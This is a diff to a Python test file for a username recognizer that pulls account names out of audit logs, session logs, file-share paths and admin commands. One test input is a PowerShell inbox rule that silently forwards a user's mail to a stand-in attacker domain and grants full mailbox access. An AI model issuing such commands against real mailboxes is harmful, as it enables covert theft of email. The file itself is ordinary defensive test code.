@@ -18,6 +18,11 @@ ACC = AccountRecognizer()
     ('New-InboxRule -Mailbox maria.berg -Name "." -ForwardTo billing@evil-mail.ru\n'
      "Add-MailboxPermission -Identity 'jhansen' -User mberg -AccessRights FullAccess",
      {("USERNAME", "maria.berg"), ("USERNAME", "jhansen"), ("USERNAME", "mberg")}),
+    # auditd's enriched names; systemd-logind
+    ('type=USER_LOGIN msg=audit(1715584364.123:4412): pid=2231 uid=0 auid=1003 ses=12 UID="root" AUID="jhansen"',
+     {("USERNAME", "jhansen")}),
+    ("May 13 09:12:50 bastion01 systemd-logind[812]: New session 12 of user mberg.\nStarted Session c3 of User praman.",
+     {("USERNAME", "mberg"), ("USERNAME", "praman")}),
     # a home or profile share; an account beside its SID (wmic useraccount get name,sid)
     (r"H:\ mapped to \\hbfs01.hb.local\home$\mberg; \\fs01\Users\jhansen\Desktop, \\fs\profiles$\praman.V6\x",
      {("USERNAME", "mberg"), ("USERNAME", "jhansen"), ("USERNAME", "praman")}),
@@ -173,7 +178,7 @@ def test_account_hits(text, expected):
     "root@web01", r"a\nb escape", "sid=S-1-5-18",
     'Set-Mailbox -Identity "Jonas Hansen" -ForwardingSmtpAddress smtp:x@y.com', "Get-Mailbox -Identity maria.berg@x.com",
     "Get-Process -Name x -User mberg", "Add-MailboxPermission -Identity Administrator -User 'NT AUTHORITY\\SYSTEM'",
-    "author: frack113", "reviewers: [Security Team]", "maintainers: [admin, root]", "reviewers: []",     r"\\fs01\home$", r"\\fs01\homes\Public\x", r"\\fs01\share\mberg", r"\\fs01\users\Administrator\x",
+    "auid=1003 euid=0 ouid=1001 fsuid=0", "a new session of user accounts",     "author: frack113", "reviewers: [Security Team]", "maintainers: [admin, root]", "reviewers: []",     r"\\fs01\home$", r"\\fs01\homes\Public\x", r"\\fs01\share\mberg", r"\\fs01\users\Administrator\x",
     "Domain Users   S-1-5-21-1004336348-1177238915-682003330-513", "krbtgt  S-1-5-21-1-2-3-502",
     "mberg S-1-5-21-1-2-3-1104 logged on",
     r"HARDWARE\DESCRIPTION\System", r'"Global\\ShellHWDetectionEvent"', r"NT\CurrentVersion",
